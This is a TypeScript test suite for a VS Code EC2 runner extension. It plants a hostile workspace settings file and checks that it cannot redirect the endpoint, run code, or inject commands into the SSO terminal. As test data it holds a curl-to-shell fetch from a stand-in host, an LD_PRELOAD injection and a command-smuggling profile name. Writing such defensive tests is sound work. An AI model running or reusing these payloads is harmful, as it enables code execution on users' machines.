// A cloned repository's .vscode/settings.json plays the attacker: it points the endpoint at a
// server it controls, sets a code-running interpreter and environment, and a profile name built
// to run a command in the SSO terminal. None of it may take effect where it matters.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import * as vscode from 'vscode';
import { api, requireSandboxEnvironment, waitFor } from './helpers';

suite('A hostile workspace settings file', () => {
  let attacker: http.Server;
  let attackerHits = 0;
  let settingsFile: string;
  let previous: string | undefined;

  suiteSetup(async () => {
    requireSandboxEnvironment();
    attacker = http.createServer((_req, res) => {
      attackerHits++;
      res.writeHead(500).end();
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    const folder = vscode.workspace.workspaceFolders?.[0]?.uri.fsPath;
    assert.ok(folder, 'the suites run with a workspace folder');
    settingsFile = path.join(folder, '.vscode', 'settings.json');
    previous = fs.existsSync(settingsFile) ? fs.readFileSync(settingsFile, 'utf8') : undefined;
    fs.mkdirSync(path.dirname(settingsFile), { recursive: true });
    const hostile = {
      'ec2Runner.endpointUrl': `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`,
      'ec2Runner.interpreter': "sh -c 'curl -s https://evil.invalid/x | sh' #",
      'ec2Runner.env': { LD_PRELOAD: '/tmp/evil.so' },
      // Not restricted: proves VS Code has read the file before the assertions run.
      'ec2Runner.timeoutSeconds': 4242,
    };
    fs.writeFileSync(settingsFile, JSON.stringify(hostile, null, 2));
    await waitFor(
      'VS Code to read the workspace settings file',
      () => vscode.workspace.getConfiguration('ec2Runner').get('timeoutSeconds') === 4242,
      30_000,
      200,
    );
  });

  suiteTeardown(async () => {
    if (previous === undefined) fs.rmSync(settingsFile, { force: true });
    else fs.writeFileSync(settingsFile, previous);
    await waitFor(
      'the workspace settings to be restored',
      () => vscode.workspace.getConfiguration('ec2Runner').get('timeoutSeconds') !== 4242,
      30_000,
      200,
    );
    await new Promise<void>((resolve) => attacker.close(() => resolve()));
    await (await api()).instancesProvider.refresh();
  });

  test('the endpoint is machine-scoped: the workspace cannot redirect requests, the sandbox still answers', async () => {
    const testApi = await api();
    assert.equal(
      vscode.workspace.getConfiguration('ec2Runner').get('endpointUrl'),
      '',
      'VS Code ignores a machine setting in a workspace',
    );
    assert.equal(testApi.connection().effective.endpointUrl, '');
    await testApi.instancesProvider.refresh();
    assert.equal(testApi.instancesState(), 'ready');
    assert.equal(attackerHits, 0, "no request reached the workspace's endpoint");
  });

  test('in Restricted Mode the interpreter, env and profile come from the user settings, not the workspace', async () => {
    const testApi = await api();
    const untrusted = testApi.settingsIfUntrusted();
    assert.equal(untrusted.interpreter, '');
    assert.deepEqual(untrusted.env, {});
    assert.equal(untrusted.timeoutSeconds, 4242, 'unrestricted settings still apply');
    assert.equal(
      testApi.connection().effective.interpreter.startsWith('sh -c'),
      true,
      'trusted (this host disables trust): the workspace decides',
    );
  });

  test('a profile name built to run a command never reaches a terminal', async () => {
    const testApi = await api();
    const config = vscode.workspace.getConfiguration('ec2Runner');
    await testApi.connectionChoose(undefined); // no "Select Profile and Region" choice over the setting
    await config.update('profile', 'x" ; calc.exe ; "', vscode.ConfigurationTarget.Workspace);
    try {
      assert.equal(testApi.settingsIfUntrusted().profile, '', 'Restricted Mode ignores the workspace profile');
      const before = vscode.window.terminals.length;
      const terminal = await vscode.commands.executeCommand('ec2Runner.ssoLogin');
      assert.equal(terminal, undefined, 'refused');
      assert.equal(vscode.window.terminals.length, before, 'no terminal opened');
    } finally {
      await config.update('profile', undefined, vscode.ConfigurationTarget.Workspace);
    }
  });
});

suite('AWS SSO sign-in terminal', () => {
  test("the profile travels in the terminal's environment (AWS_PROFILE), not as typed text", async () => {
    const testApi = await api();
    await testApi.connectionChoose({ profile: 'corp.dev-admin', region: '' });
    try {
      const terminal = (await vscode.commands.executeCommand<vscode.Terminal>('ec2Runner.ssoLogin'))!;
      assert.ok(terminal, 'a terminal opened');
      const options = terminal.creationOptions as vscode.TerminalOptions;
      assert.equal(options.env?.AWS_PROFILE, 'corp.dev-admin');
      assert.equal(options.name, 'AWS SSO login');
      terminal.dispose();
    } finally {
      await testApi.connectionChoose(undefined);
    }
  });
});
